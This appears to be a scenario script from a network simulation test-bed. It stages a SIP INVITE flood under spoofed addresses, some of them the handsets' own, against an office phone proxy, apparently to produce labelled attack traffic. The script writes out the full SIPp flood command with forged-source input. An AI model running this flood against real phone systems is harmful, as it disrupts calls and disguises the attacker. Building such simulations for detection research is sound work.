# A flood of INVITEs under forged addresses, some of them those of the handsets. Phones ring.
draw_place
open_office
add_handsets 9 1.2 '' "\"lines\":$(drawn lines 3 8),\"ring\":$(drawn ring 2 6)"
add_attacker spoofer "$(stranger spoofer)"
sources=()
for n in $(seq "$(drawn inside 2 4)"); do sources+=("$NET.$((62 + n))"); done
for n in $(seq "$(drawn sources 8 20)"); do sources+=("$FOREIGN.$((60 + n * 5 + $(drawn "source$n" 0 4)))"); done
spoof spoofer "${sources[@]}"
awk -F';' -v b="$BLOCK" 'NR == 1 {print; next} {print $0 b (20 + NR * 5 % 9) ";"}' "$scratch/sources.csv" >"$scratch/forged.csv"
sed "s#User-Agent: .*#User-Agent: $(product flooder)#; s/\[service\]/[field2]/g" "$parts/sipp/flood-spoofed.xml" >"$scratch/flood.xml"
rate=$(drawn rate 10 35) count=$(drawn count 90 150)
begin
ordinary_day 38
at "$(drawn start 12 16)" attack A1 invite_flood spoofer 5060 "SIPp sends $count INVITEs, $rate a second, for nine phones, under ${#sources[@]} addresses that are not its own." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$scratch/flood.xml" -nostdin -default_behaviors none -t ui -max_socket 500 \
    -ip_field 0 -inf "$scratch/forged.csv" -cid_str "%u-%p" -i "${address_of[spoofer]}" -mi "${address_of[spoofer]}" -p 5060 \
    -r "$rate" -m "$count" "$PROXY:5060"
finish A1
